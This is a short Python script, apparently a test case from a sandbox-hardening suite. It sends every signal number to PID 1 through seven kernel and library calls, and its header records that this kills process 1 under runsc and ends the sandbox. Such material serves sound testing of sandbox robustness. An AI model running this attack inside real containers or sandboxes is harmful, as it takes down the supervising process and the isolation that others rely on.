# attack: sends every signal to its supervisor, by every call there is
# verdict: completed
# prints: still here
# ends the sandbox: runsc (process 1 dies of unhandled signals)
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
information = ctypes.create_string_buffer((7).to_bytes(4, "little"), 128)
for number in range(1, 65):
    for send in (
        lambda: os.kill(1, number),
        lambda: libc.syscall(234, 1, 1, number),
        lambda: libc.syscall(200, 1, number),
        lambda: libc.sigqueue(1, number, 0),
        lambda: libc.syscall(129, 1, number, information),
        lambda: signal.pidfd_send_signal(os.pidfd_open(1), number),
        lambda: os.killpg(os.getpgid(1), number),
    ):
        try:
            send()
        except (OSError, AttributeError):
            pass
print("still here")
1 + 1
